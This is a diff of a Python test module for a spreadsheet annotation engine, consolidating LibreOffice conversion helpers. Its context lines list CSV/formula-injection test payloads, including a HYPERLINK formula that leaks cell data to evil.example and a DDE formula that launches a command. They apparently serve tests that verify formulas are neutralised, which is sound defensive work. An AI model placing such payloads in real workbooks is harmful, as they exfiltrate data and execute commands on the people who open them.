@@ -20,6 +20,7 @@ from types import SimpleNamespace
 
 import openpyxl
 import pytest
+from tests.helpers.office import SOFFICE, convert
 from tests.builders import class_book
 
 from workbook_engine.writing.annotate import annotate
@@ -41,7 +42,6 @@ LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
 PAYLOADS = [DDE, LINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
 NONCHARS = "\ufffe\uffff\ufdd0\ufdef\U0001fffe\U0010ffff"
 RARE = "𠀋𪚥😀"  # characters beyond the BMP that are not non-characters: kept
-SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
 
 PHONE = "13812345678"
 LANDLINE = "010-62345678"
@@ -323,8 +323,6 @@ def test_every_output_opens_after_noncharacters_in_a_cell(school):
 @pytest.mark.slow
 @pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed on this machine")
 def test_libreoffice_converts_the_merged_and_feedback_books_with_noncharacters(school, tmp_path):
-    from tests.writing.test_libreoffice import convert
-
     books = school.books
     copies = []
     for key in ("merged", "feedback1", "summary"):
@@ -339,8 +337,6 @@ def test_libreoffice_converts_the_merged_and_feedback_books_with_noncharacters(s
 @pytest.mark.parametrize("fmt", ["ods", "xls"])
 def test_annotated_copy_of_a_class_workbook_saved_as_ods_or_xls_has_no_formulas(tmp_path, fmt):
     """The hostile class workbook saved by LibreOffice as .ods / .xls, then annotated: names stay text."""
-    from tests.writing.test_libreoffice import convert
-
     data = hostile_class(nonchar=False)
     src = class_book(tmp_path, data, "七年级1班.xlsx")
     wb = openpyxl.load_workbook(src)
